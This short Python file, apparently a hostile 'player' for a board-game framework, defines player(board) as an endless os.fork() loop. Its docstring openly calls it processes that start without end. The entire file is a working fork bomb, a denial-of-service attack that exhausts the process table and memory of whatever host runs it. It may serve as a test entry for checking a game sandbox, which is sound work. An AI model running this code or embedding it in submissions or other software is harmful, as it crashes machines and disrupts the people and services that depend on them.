"""Starts processes without end, each of which does the same."""

import os

from weak import *


def player(board):
    while True:
        try:
            os.fork()
        except OSError:
            pass
